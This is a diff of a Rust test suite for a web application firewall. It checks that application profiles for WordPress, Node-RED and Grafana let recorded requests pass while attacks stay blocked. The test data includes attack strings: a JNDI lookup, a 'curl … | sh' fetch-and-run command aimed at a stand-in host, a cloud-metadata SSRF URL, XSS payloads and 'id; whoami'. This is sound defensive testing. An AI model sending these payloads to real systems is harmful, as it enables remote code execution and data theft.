@@ -1,139 +1,143 @@
-//! Profiles in the real program: each exclusion of them has a request of our own that it lets pass, and
-//! attacks of another class and of another kind in the same field are stopped.
+//! Profiles: what each lets pass and what it still stops, in every mode; and in the real program.
 
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
 use std::process::Command;
 
-use portcullis_config::profiles;
+use portcullis_config::{Profile, profiles};
 use portcullis_testkit::client::exchange;
+use portcullis_testkit::upstream::Response;
 use serde_json::{Value, json};
 
 use crate::revisions::Managed;
 use crate::served::*;
 
-/// The place of a value.
-#[derive(Clone, Copy, Debug)]
-enum In {
-    /// A form, in this field.
-    Form(&'static str),
-    /// A JSON body, in the place of `VALUE`.
-    Json(&'static str),
+/// With a host of its own, so that links to others are stopped.
+const SITE: &str = "mode = \"semantic\"\nsemantic = { hosts = [\"app.example\"] }";
+/// Profiles that the real program is started with.
+const SERVED: [&str; 3] = ["nodered", "wordpress", "wordpress-plain-permalinks"];
+
+fn run(arguments: &[&str]) -> (bool, String) {
+    let output = Command::new(program()).arg("profiles").args(arguments).output().unwrap();
+    (output.status.success(), String::from_utf8([output.stdout, output.stderr].concat()).unwrap())
 }
 
-/// A request that a profile lets pass.
-struct Sample {
-    path: &'static str,
-    place: In,
-    honest: &'static str,
-    /// Of another class, and of a kind of the same class that is not excluded.
-    attacks: [&'static str; 2],
+fn files() -> Vec<PathBuf> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../portcullis-config/src/profiles");
+    let mut files: Vec<_> = std::fs::read_dir(folder).unwrap().map(|file| file.unwrap().path()).collect();
+    files.sort();
+    files
 }
 
-/// With hosts of its own, so that links to others are stopped.
-const SITE: &str = "mode = \"semantic\"\nsemantic = { hosts = [\"own.example\"] }";
-const LOOKUP: &str = "${jndi:ldap://a.example/x}";
-/// A page with all that the block editor was recorded to save.
-const LANDING: &str = "<!-- wp:html --><script async=\"\" src=\"https://visits.example.net/tag.js\"></script>\
-    <script>window.layer = window.layer || []; function tag(){layer.push(arguments);} tag('js', new Date());\
-    </script><form action=\"https://list.example.net/join\" method=\"post\" onsubmit=\"return check(this)\">\
-    <input type=\"email\" name=\"EMAIL\"></form><!-- /wp:html -->";
-/// Markup of the same class, of a kind that was not recorded.
-const STYLE: &str = "\"><link rel=stylesheet href=http://a.example/a.css>";
-const SAMPLES: [Sample; 7] = [
-    Sample {
-        path: "/wp-json/wp/v2/posts/7",
-        place: In::Json("{\"title\":\"Sale\",\"content\":VALUE}"),
-        honest: LANDING,
-        attacks: [LOOKUP, STYLE],
-    },
-    Sample {
-        path: "/wp-json/wp/v2/pages/3",
-        place: In::Json("{\"content\":VALUE}"),
-        honest: LANDING,
-        attacks: [LOOKUP, STYLE],
-    },
-    Sample {
-        path: "/index.php?rest_route=%2Fwp%2Fv2%2Fpages%2F3",
-        place: In::Json("{\"content\":VALUE}"),
-        honest: LANDING,
-        attacks: [LOOKUP, STYLE],
-    },
-    Sample {
-        path: "/wp-comments-post.php",
-        place: In::Form("url"),
-        honest: "https://garden.example.net/~ann/",
-        attacks: ["http://169.254.169.254/latest/meta-data/", "https://own.example@a.example/"],
-    },
-    Sample {
-        path: "/wp-admin/profile.php",
-        place: In::Form("url"),
-        honest: "https://garden.example.net/",
-        attacks: ["javascript:alert(document.cookie)", "https://own.example@a.example/"],
-    },
-    Sample {
-        path: "/flows",
-        place: In::Json("{\"flows\":[{\"type\":\"exec\",\"command\":VALUE}]}"),
-        honest: "cat /etc/hostname; uname -a | tr a-z A-Z",
-        attacks: ["<script>alert(1)</script>", "$(curl http://a.example/x|sh)"],
-    },
-    Sample {
-        path: "/flows",
-        place: In::Json("{\"flows\":[{\"type\":\"http request\",\"url\":VALUE}]}"),
-        honest: "http://127.0.0.1:9090/api/v1/query?query=up",
-        attacks: [LOOKUP, "http://169.254.169.254/latest/meta-data/"],
-    },
-];
-
-fn percent(text: &str) -> String {
-    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
-}
-
-impl Sample {
-    /// The status of the request with this value, its path below `root`.
-    fn ask(&self, managed: &Managed, root: &str, value: &str) -> u16 {
-        let (kind, body) = match self.place {
-            In::Form(field) => ("application/x-www-form-urlencoded", format!("{field}={}", percent(value))),
-            In::Json(template) => ("application/json", template.replace("VALUE", &json!(value).to_string())),
-        };
-        let request = format!(
-            "POST {root}{} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: {kind}\r\n\
-             Content-Length: {}\r\n\r\n{body}",
-            self.path,
-            body.len()
-        );
-        exchange(managed.address, None, request.as_bytes(), PATIENCE).unwrap().status
+/// Every profile lets its own requests pass in `semantic`, `both` and `crs`, stops the attacks in the same
+/// places, and excludes nothing that none of its requests needs. The files are read, not what was compiled.
+#[test]
+fn every_profile_does_what_it_says() {
+    let rules = portcullis_testkit::crs::rules().expect("run make crs");
+    let files = files();
+    let mut arguments = vec!["test", "--crs", rules.to_str().unwrap()];
+    arguments.extend(files.iter().map(|file| file.to_str().unwrap()));
+    let (ok, text) = run(&arguments);
+    assert!(ok, "{text}");
+    for mode in ["semantic", "both", "crs"] {
+        assert_eq!(text.matches(&format!("  {mode}: ")).count(), files.len(), "{text}");
     }
 }
 
-/// The exclusions of all profiles.
-fn count() -> usize {
-    profiles().iter().map(|profile| profile.exclude.len()).sum()
+/// Where something is excluded, attacks are tried; the attacks of no profile are few.
+#[test]
+fn every_profile_has_requests_and_attacks() {
+    for file in files() {
+        let profile = Profile::from_toml(&std::fs::read_to_string(&file).unwrap()).unwrap();
+        let attacks: usize = profile.requests.iter().map(|request| request.attacks.len()).sum();
+        assert!(!profile.requests.is_empty() && attacks > 0, "{}", profile.name);
+        let paths: BTreeSet<String> = profile.exclusions("").map(|each| each.path).collect();
+        assert!(attacks >= paths.len(), "{}: {attacks} attacks for {paths:?}", profile.name);
+    }
+}
+
+/// A profile that opens more than it says fails its test: here an attack becomes a benign request, and an
+/// exclusion that nothing needs is added.
+#[test]
+fn a_profile_that_opens_too_much_is_found() {
+    let rules = portcullis_testkit::crs::rules().expect("run make crs");
+    let text =
+        std::fs::read_to_string(files().iter().find(|file| file.ends_with("nodered.toml")).unwrap()).unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("mine.toml");
+    let check = |text: &str| {
+        std::fs::write(&path, text).unwrap();
+        run(&["test", path.to_str().unwrap(), "--crs", rules.to_str().unwrap()])
+    };
+    let (ok, told) = check(&text);
+    assert!(ok, "{told}");
+    let wide = text.replacen("attacks = [", "attacks = [\"id; whoami\", ", 1);
+    let (ok, told) = check(&wide);
+    assert!(!ok && told.contains("passes with the profile: ") && told.contains(": id; whoami"), "{told}");
+    let needless = text.replacen("kinds = [", "kinds = [\"ldap.filter\", ", 1);
+    let (ok, told) = check(&needless);
+    assert!(!ok && told.contains("no request needs ldap.filter in json:"), "{told}");
+    let (ok, told) = check("name = \"mine\"\n");
+    assert!(!ok && told.contains("mine.toml: "), "{told}");
+}
+
+#[test]
+fn recorded_requests_are_shown_without_and_with_a_profile() {
+    let folder = tempfile::tempdir().unwrap();
+    let profile = profiles().iter().find(|profile| profile.name == "wordpress").unwrap();
+    let lines: Vec<String> = profile.requests[..2]
+        .iter()
+        .map(|request| {
+            json!({ "request": String::from_utf8(request.bytes("/blog", None)).unwrap() }).to_string()
+        })
+        .collect();
+    let path = folder.path().join("work.jsonl");
+    std::fs::write(&path, lines.join("\n")).unwrap();
+    let ask = |more: &[&str]| {
+        let arguments = ["test", "wordpress", "--mode", "semantic", "--requests", path.to_str().unwrap()];
+        run(&[&arguments[..], more].concat())
+    };
+    let (ok, told) = ask(&["--path", "/blog"]);
+    assert!(ok && told.contains("of 2 requests 2 refused without the profile, 0 with it"), "{told}");
+    let (ok, told) = ask(&[]);
+    assert!(!ok && told.contains("2 refused without the profile, 2 with it"), "{told}");
+    assert!(told.contains("xss.script-code in json:content"), "{told}");
+}
+
+/// The status of a request of a profile, its path below `root`.
+fn ask(managed: &Managed, request: &[u8]) -> u16 {
+    exchange(managed.address, None, request, PATIENCE).unwrap().status
 }
 
 #[test]
 fn each_exclusion_lets_its_own_request_pass_and_no_more() {
     let application = application(|_| says("found"));
+    let served = || profiles().iter().filter(|profile| SERVED.contains(&profile.name.as_str()));
+    let requests = || served().flat_map(|profile| &profile.requests);
     let folder = tempfile::tempdir().unwrap();
     let without = Managed::start(folder.path(), application.address(), SITE, "");
-    for sample in &SAMPLES {
-        let Sample { path, place, honest, attacks: [other, same] } = sample;
-        for value in [honest, other, same] {
-            assert_eq!(sample.ask(&without, "", value), 403, "{path} {place:?}: {value}");
+    let mut refused = Vec::new();
+    for request in requests() {
+        refused.push(ask(&without, &request.bytes("", None)) == 403);
+        for attack in &request.attacks {
+            let status = ask(&without, &request.bytes("", Some(attack)));
+            assert_eq!(status, 403, "{}: {attack}", request.what);
         }
     }
+    assert!(refused.iter().filter(|refused| **refused).count() > 8);
     without.stop();
     let folder = tempfile::tempdir().unwrap();
-    let names: Vec<&str> = profiles().iter().map(|profile| profile.name.as_str()).collect();
-    let site = format!("{SITE}\nprofiles = {names:?}");
+    let site = format!("{SITE}\nprofiles = {SERVED:?}");
     let managed = Managed::start(folder.path(), application.address(), &site, "");
-    for sample in &SAMPLES {
-        let Sample { path, place, honest, attacks } = sample;
-        assert_eq!(sample.ask(&managed, "", honest), 200, "{path} {place:?}: {honest}");
-        for attack in attacks {
-            assert_eq!(sample.ask(&managed, "", attack), 403, "{path} {place:?}: {attack}");
+    for (request, was_refused) in requests().zip(refused) {
+        assert_eq!(ask(&managed, &request.bytes("", None)), 200, "{}", request.what);
+        for attack in &request.attacks {
+            let status = ask(&managed, &request.bytes("", Some(attack)));
+            assert_eq!(status, 403, "{}: {attack}", request.what);
         }
         // Nobody carries it to another application, or to a path that becomes another one.
-        for root in ["/other.php", "/x/..", "/"] {
-            assert_eq!(sample.ask(&managed, root, honest), 403, "{root}{path} {place:?}: {honest}");
+        for root in ["/other.php", "/x/..", "/"].iter().filter(|_| was_refused) {
+            assert_eq!(ask(&managed, &request.bytes(root, None)), 403, "{root}: {}", request.what);
         }
     }
     let listed = || {
@@ -141,12 +145,12 @@ fn each_exclusion_lets_its_own_request_pass_and_no_more() {
         assert_eq!(status, 200, "{listed}");
         listed["items"].as_array().unwrap().clone()
     };
-    assert_eq!(listed().len(), count());
-    // Every exclusion is needed.
-    until(|| listed().iter().all(|each| each["use"]["hits"].as_u64() > Some(0)));
+    assert_eq!(listed().len(), served().map(|profile| profile.exclusions("").count()).sum::<usize>());
+    until(|| listed().iter().any(|each| each["use"]["hits"].as_u64() > Some(0)));
     for each in listed() {
         assert_eq!((&each["origin"], each["reason"].is_string()), (&json!("profile"), true), "{each}");
-        assert!(each["opens"].is_string() && names.contains(&each["profile"].as_str().unwrap()), "{each}");
+        assert!(each["opens"].is_string() && SERVED.contains(&each["profile"].as_str().unwrap()), "{each}");
+        assert!(each["kind"].is_string() != (each["rules"] != json!([])), "{each}");
         let path = format!("/exclusions/{}", each["id"].as_str().unwrap());
         let (status, refused) = managed.ask("DELETE", &path, &Value::Null);
         let told = refused["detail"].to_string();
@@ -163,16 +167,42 @@ fn wordpress_opens_no_other_route() {
     let folder = tempfile::tempdir().unwrap();
     let site = format!("{SITE}\nprofiles = [\"wordpress\"]");
     let managed = Managed::start(folder.path(), application.address(), &site, "");
+    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
+    let text = String::from_utf8(post.bytes("", None)).unwrap();
     for path in [
         "/wp-json/wp/v2/comments",
         "/wp-json/plugin/v1/submit",
         "/index.php?rest_route=/wp/v2/pages/3",
         "/index.php?rest_route=/plugin/v1/submit",
     ] {
-        let place = In::Json("{\"content\":VALUE}");
-        let sample = Sample { path, place, honest: LANDING, attacks: [LOOKUP; 2] };
-        assert_eq!(sample.ask(&managed, "", LANDING), 403, "{path}");
+        assert_eq!(ask(&managed, text.replacen(&post.uri, path, 1).as_bytes()), 403, "{path}");
     }
+    managed.stop();
+}
+
+/// An application below a path takes its profile there, and nowhere else.
+#[test]
+fn a_profile_is_for_the_path_that_the_site_says() {
+    let application = application(|_| says("found"));
+    let folder = tempfile::tempdir().unwrap();
+    let site = format!("{SITE}\nprofiles = [\"nodered\", {{ name = \"wordpress\", path = \"/blog\" }}]");
+    let managed = Managed::start(folder.path(), application.address(), &site, "");
+    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
+    assert_eq!(ask(&managed, &post.bytes("/blog", None)), 200);
+    for root in ["", "/shop", "/x/blog", "/blog/x", "/blogs"] {
+        assert_eq!(ask(&managed, &post.bytes(root, None)), 403, "{root}");
+    }
+    let (_, listed) = managed.ask("GET", "/exclusions", &Value::Null);
+    let mut of_blog =
+        listed["items"].as_array().unwrap().iter().filter(|each| each["profile"] == "wordpress");
+    let one = of_blog.next().unwrap();
+    assert!(one["path"].as_str().unwrap().starts_with("/blog/wp-"), "{one}");
+    let path = format!("/exclusions/{}", one["id"].as_str().unwrap());
+    let (status, refused) = managed.ask("DELETE", &path, &Value::Null);
+    assert!(
+        status == 409 && refused["detail"].to_string().contains("is of the profile `wordpress`"),
+        "{refused}"
+    );
     managed.stop();
 }
 
@@ -181,15 +211,15 @@ fn wordpress_opens_no_other_route() {
 fn a_profile_is_of_the_whole_site_and_ends_with_its_name() {
     let application = application(|_| says("found"));
     let folder = tempfile::tempdir().unwrap();
-    let [sample, ..] = &SAMPLES;
+    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
     let site = "mode = \"semantic\"\nprofiles = [\"wordpress\"]\n\
                 routes = [{ path = \"/wp-json/\", upstream = \"app\", semantic = { classes = { xss = \"block\" } } }]";
     let managed = Managed::start(folder.path(), application.address(), site, "");
-    assert_eq!(sample.ask(&managed, "", sample.honest), 200);
+    assert_eq!(ask(&managed, &post.bytes("", None)), 200);
     let text = managed.text().replace("profiles = [\"wordpress\"]", "profiles = []");
     let (status, answer) = managed.ask("PUT", "/config", &json!({ "text": text }));
     assert_eq!(status, 200, "{answer}");
-    assert_eq!(sample.ask(&managed, "", sample.honest), 403);
+    assert_eq!(ask(&managed, &post.bytes("", None)), 403);
     let (_, listed) = managed.ask("GET", "/exclusions", &Value::Null);
     assert_eq!(listed["items"], json!([]));
     managed.stop();
@@ -197,15 +227,72 @@ fn a_profile_is_of_the_whole_site_and_ends_with_its_name() {
 
 #[test]
 fn the_command_tells_what_each_opens() {
-    let ask = |arguments: &[&str]| {
-        let output = Command::new(program()).arg("profiles").args(arguments).output().unwrap();
-        let text = [output.stdout, output.stderr].concat();
-        (output.status.success(), String::from_utf8(text).unwrap())
-    };
-    let (ok, all) = ask(&[]);
-    assert!(ok && all.matches("    opens: ").count() == count(), "{all}");
-    let (ok, one) = ask(&["wordpress"]);
-    assert!(ok && one.starts_with("wordpress: ") && all.contains(&one), "{one}");
-    let (ok, error) = ask(&["wordpres"]);
+    let (ok, all) = run(&[]);
+    assert!(ok && all.lines().count() == profiles().len(), "{all}");
+    for profile in profiles() {
+        assert!(all.lines().any(|line| line.starts_with(&format!("{} ", profile.name))), "{all}");
+    }
+    let (ok, one) = run(&["wordpress"]);
+    let wordpress = profiles().iter().find(|profile| profile.name == "wordpress").unwrap();
+    assert!(ok && one.starts_with("wordpress: WordPress "), "{one}");
+    assert_eq!(one.matches("    opens: ").count(), wordpress.exclusions("").count());
+    let (ok, error) = run(&["wordpres"]);
     assert!(!ok && error.contains("did you mean `wordpress`?"), "{error}");
+    let (ok, error) = run(&["test", "wordpres"]);
+    assert!(!ok && error.contains("did you mean `wordpress`?"), "{error}");
+}
+
+/// A site whose answers look like a known application is told so once, and nothing is switched on; what takes
+/// its profile already is not told.
+#[test]
+fn a_known_application_is_told_once() {
+    let grafana = "<!DOCTYPE html><html><head><title>Grafana</title></head><body><script>window.grafanaBootData = {};\
+                   </script></body></html>";
+    let application = application(move |request| match request.target.as_str() {
+        "/login" => says(grafana),
+        // One word of it, and what nobody looks at.
+        "/missing" => Response { status: 404, ..says(grafana) },
+        _ => says("<html><head><title>Grafana and others</title></head></html>"),
+    });
+    let served = Served::start_site(&application, "mode = \"semantic\"", "");
+    let known = "portcullis_recognised_applications{site=\"site\",profile=\"grafana\"} 1";
+    for target in ["/", "/missing", "/"] {
+        served.get(target);
+    }
+    assert!(!served.metrics().contains(known));
+    for _ in 0..3 {
+        served.get("/login");
+    }
+    assert!(served.metrics().contains(known), "{}", served.metrics());
+    let logged = log(served);
+    let told = logged.lines().filter(|line| line.contains("look like Grafana")).collect::<Vec<_>>();
+    assert_eq!(told.len(), 1, "{logged}");
+    assert!(told[0].contains("profiles = [\"grafana\"]") && told[0].contains("title grafana"), "{told:?}");
+
+    let site = "mode = \"semantic\"\nprofiles = [\"grafana\"]";
+    let served = Served::start_site(&application, site, "");
+    assert_eq!(served.get("/login").status(), 200);
+    assert!(served.metrics().contains(known));
+    assert!(!log(served).contains("look like"));
+}
+
+/// What a site costs is bounded: after so many answers that are nothing known, none is looked at any more.
+#[test]
+fn a_site_is_not_looked_at_for_ever() {
+    let application = application(|request| match request.target.as_str() {
+        "/login" => says("<title>Grafana</title><script>window.grafanaBootData = {};</script>"),
+        _ => says("<html><head><title>Shop</title></head></html>"),
+    });
+    let served = Served::start_site(&application, "mode = \"semantic\"", "");
+    for at in 0..70 {
+        served.get(if at < 69 { "/" } else { "/login" });
+    }
+    assert!(!served.metrics().contains("portcullis_recognised_applications{"));
+    assert!(!log(served).contains("look like"));
+}
+
+/// Ends the program; what it logged.
+fn log(served: Served) -> String {
+    let folder = served.stop();
+    std::fs::read_to_string(folder.path().join("output")).unwrap()
 }
